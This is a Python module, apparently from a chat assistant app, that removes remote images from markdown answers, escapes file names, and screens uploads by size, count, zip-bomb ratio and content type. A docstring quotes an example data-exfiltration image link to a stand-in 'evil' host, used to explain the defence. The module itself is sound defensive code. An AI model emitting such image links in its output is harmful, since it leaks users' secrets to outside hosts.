"""What the chat shows and accepts safely: markdown without remote images, uploads checked by content."""

from __future__ import annotations

import re
from dataclasses import dataclass
from io import BytesIO

from tradeassist.core.errors import BadInputError, IngestError

#: ``![alt](url)`` and ``![alt][ref]`` images, and raw ``<img>`` tags.
_MD_IMAGE = re.compile(r"!\[([^\]]*)\]\((?:<[^>]*>|[^)])*\)")
_MD_IMAGE_REF = re.compile(r"!\[([^\]]*)\]\[[^\]]*\]")
_HTML_IMG = re.compile(r"<\s*img\b[^>]*>", re.IGNORECASE)
#: Reference definitions (``[ref]: http://...``) may feed image references; they are shown as text.
_REF_DEF = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*\S+.*$", re.MULTILINE)

#: Sum of uncompressed sizes a DOCX/XLSX/PPTX may expand to, and the largest ratio allowed.
MAX_UNZIPPED_BYTES = 300 * 1024 * 1024
MAX_ZIP_RATIO = 200
#: Content kinds read as text; a file of one of them may carry any text extension.
_TEXT_KINDS = frozenset({"txt", "md", "html", "eml"})
#: What each file extension promises about the content (as ``tradeassist.ingest.sniff`` names kinds).
_EXTENSION_KINDS = {
    "pdf": {"pdf"}, "docx": {"docx"}, "pptx": {"pptx"}, "xlsx": {"xlsx"}, "png": {"png"},
    "jpg": {"jpeg"}, "jpeg": {"jpeg"}, "tif": {"tiff"}, "tiff": {"tiff"},
    **{text: _TEXT_KINDS for text in ("txt", "md", "markdown", "html", "htm", "csv", "eml")},
}


def strip_remote_images(markdown: str) -> str:
    """Markdown with every image replaced by a plain note, so no remote host is ever fetched.

    Answers quote retrieved documents, which may carry tracking pixels or data-exfiltration
    images (``![x](https://evil/?q=secret)``); the chat never renders them.
    """
    text = _MD_IMAGE.sub(lambda m: f"[image removed: {m.group(1) or 'untitled'}]", markdown)
    text = _MD_IMAGE_REF.sub(lambda m: f"[image removed: {m.group(1) or 'untitled'}]", text)
    text = _HTML_IMG.sub("[image removed]", text)
    text = text.replace("![", "!\\[")  # anything image-like left over is shown as text
    return _REF_DEF.sub(lambda m: m.group(0).replace("[", "\\[", 1), text)


#: Characters that give markdown meaning; a file name is shown with each of them escaped.
_MARKDOWN_CHARS = re.compile(r"([\\`*_{}\[\]()#+\-.!<>|~])")


def plain_name(name: str) -> str:
    """A file name as literal markdown text: ``![x](http://host/p)`` shows as typed, never as an image."""
    return _MARKDOWN_CHARS.sub(r"\\\1", name.replace("\n", " ").replace("\r", " "))


@dataclass(frozen=True)
class UploadLimits:
    """How many files and how large an upload may be."""

    max_files: int = 10
    max_file_bytes: int = 50 * 1024 * 1024


def check_upload_kind(name: str, data: bytes) -> str:
    """The file's kind from its content (``tradeassist.ingest.sniff``), cross-checked with its extension.

    Raises BadInputError for content ingest cannot read, an Office file that would inflate into
    far more data than it holds, or a name that disguises another type (for example an
    executable renamed ``report.pdf``).
    """
    from tradeassist.ingest.limits import Limits, check_zip_package
    from tradeassist.ingest.sniff import sniff_kind as content_kind

    try:
        kind = content_kind(data, name=name)
        if kind.is_ooxml:
            check_zip_package(BytesIO(data), Limits(max_unzipped_bytes=MAX_UNZIPPED_BYTES, max_zip_ratio=MAX_ZIP_RATIO))
    except IngestError as exc:
        raise BadInputError(f"{name} cannot be ingested: {exc}.") from exc
    extension = name.rsplit(".", 1)[-1].lower() if "." in name else ""
    if extension and kind.value not in _EXTENSION_KINDS.get(extension, ()):
        content = "plain text" if kind.value in _TEXT_KINDS else kind.value.upper()
        raise BadInputError(
            f"{name}: the name says .{extension} but the content is {content}; rename it or upload the real file.")
    return kind.value


def check_upload(files: list[tuple[str, bytes]], limits: UploadLimits) -> list[str]:
    """Check a batch of uploads; returns each file's kind, or raises with a clear message."""
    if not files:
        raise BadInputError("No file was uploaded.")
    if len(files) > limits.max_files:
        raise BadInputError(f"{len(files)} files at once is too many; the limit is {limits.max_files}.")
    kinds = []
    for name, data in files:
        if len(data) > limits.max_file_bytes:
            raise BadInputError(
                f"{name} is {len(data) / 1e6:.1f} MB; the limit is {limits.max_file_bytes / 1e6:.0f} MB."
            )
        if not data:
            raise BadInputError(f"{name} is empty.")
        kinds.append(check_upload_kind(name, data))
    return kinds


def screen_upload(
    files: list[tuple[str, bytes]], limits: UploadLimits
) -> tuple[list[tuple[str, bytes, str]], list[tuple[str, str]]]:
    """Split a batch into accepted ``(name, data, kind)`` and refused ``(name, reason)`` files.

    Only a batch that is empty or has too many files is refused as a whole; otherwise each bad
    file fails alone and the others go in.
    """
    if not files:
        raise BadInputError("No file was uploaded.")
    if len(files) > limits.max_files:
        raise BadInputError(f"{len(files)} files at once is too many; the limit is {limits.max_files}.")
    accepted, refused = [], []
    for name, data in files:
        try:
            accepted.append((name, data, check_upload([(name, data)], limits)[0]))
        except BadInputError as exc:
            refused.append((name, str(exc)))
    return accepted, refused
